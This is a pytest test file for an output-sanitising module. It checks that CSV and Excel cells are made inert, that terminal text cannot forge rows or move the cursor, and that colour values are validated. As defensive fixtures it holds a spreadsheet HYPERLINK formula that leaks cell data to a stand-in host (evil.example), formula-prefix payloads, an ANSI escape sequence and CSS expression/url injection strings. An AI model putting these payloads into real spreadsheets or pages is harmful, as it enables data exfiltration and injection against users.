"""Output that is only data: CSV and Excel cells, terminal text, colours."""

from __future__ import annotations

import pandas as pd

from qlr._output import (
    csv_text,
    neutralise_frame,
    printable,
    restore_frame,
    safe_colour,
    write_excel,
)

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "plain", "-"]


def test_csv_cells_are_inert_and_read_back_exactly(tmp_path):
    frame = pd.DataFrame({"label": HOSTILE, "n": range(len(HOSTILE)), "ratio": [-0.5] * len(HOSTILE)})
    path = tmp_path / "t.csv"
    path.write_text(csv_text(frame), encoding="utf-8", newline="")
    written = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert not written["label"].str.match(r"^[=+\-@\t\r]").any()
    back = restore_frame(written)
    assert back["label"].tolist() == HOSTILE
    assert pd.read_csv(path)["ratio"].tolist() == [-0.5] * len(HOSTILE), "numbers stay numbers"


def test_raw_keeps_values_as_they_are():
    frame = pd.DataFrame({"label": ["=1"]})
    assert neutralise_frame(frame, raw=True)["label"].tolist() == ["=1"]


def test_column_names_and_index_are_neutralised():
    frame = pd.DataFrame({"=cmd": [1]}, index=pd.Index(["@x"], name="case"))
    out = neutralise_frame(frame)
    assert list(out.columns) == ["'=cmd"] and list(out.index) == ["'@x"]


def test_excel_holds_strings_not_formulas(tmp_path):
    import openpyxl

    frame = pd.DataFrame({"=label": ["=1+2", "Ann"], "n": [3, 4]}, index=pd.Index(["=HYPERLINK(1)", "b"], name="case"))
    path = write_excel(tmp_path / "t.xlsx", [("t", frame, True)])
    sheet = openpyxl.load_workbook(path)["t"]
    cells = {cell.coordinate: cell for row in sheet.iter_rows() for cell in row}
    assert [cells[c].value for c in ("A1", "B1", "C1")] == ["case", "=label", "n"]
    assert cells["A2"].value == "=HYPERLINK(1)" and cells["A2"].data_type == "s"
    assert cells["B2"].value == "=1+2" and cells["B2"].data_type == "s"
    assert cells["C2"].value == 3 and cells["C2"].data_type == "n"
    assert not any(cell.data_type == "f" for cell in cells.values())


def test_excel_keeps_missing_values_dates_and_numbers(tmp_path):
    import openpyxl

    frame = pd.DataFrame(
        {
            "when": pd.to_datetime(["2024-03-07 10:00", None]).tz_localize("UTC"),
            "n": pd.array([1, None], dtype="Int64"),
            "x": [0.5, float("nan")],
            "flag": [True, False],
            "text": pd.array(["a", pd.NA], dtype="string"),
        }
    )
    path = write_excel(tmp_path / "t.xlsx", [("a very long sheet name beyond thirty-one", frame, False)])
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["a very long sheet name beyond t"]
    rows = [[cell.value for cell in row] for row in book.active.iter_rows()]
    assert rows[0] == ["when", "n", "x", "flag", "text"]
    assert rows[1][0].isoformat() == "2024-03-07T10:00:00" and rows[1][1:] == [1, 0.5, True, "a"]
    assert rows[2] == [None, None, None, False, None]


def test_terminal_text_cannot_forge_rows_or_move_the_cursor():
    assert printable("C01\x1b[31m\nC02  3 waves") == "C01\\x1b[31m\\nC02  3 waves"
    assert printable("tab\there") == "tab\\there"
    assert printable("bidi\u202eevil") == "bidi\\u202eevil"
    assert printable("Zoë café") == "Zoë café"


def test_colours_are_hex_or_names_only():
    assert safe_colour("#0072B2") == "#0072B2"
    assert safe_colour("#abc") == "#abc"
    assert safe_colour("SteelBlue") == "SteelBlue"
    for bad in ["url(http://x)", "red; background: url(x)", "#12345", "expression(alert(1))", 42, None]:
        assert safe_colour(bad) is None
        assert safe_colour(bad, default="#999999") == "#999999"
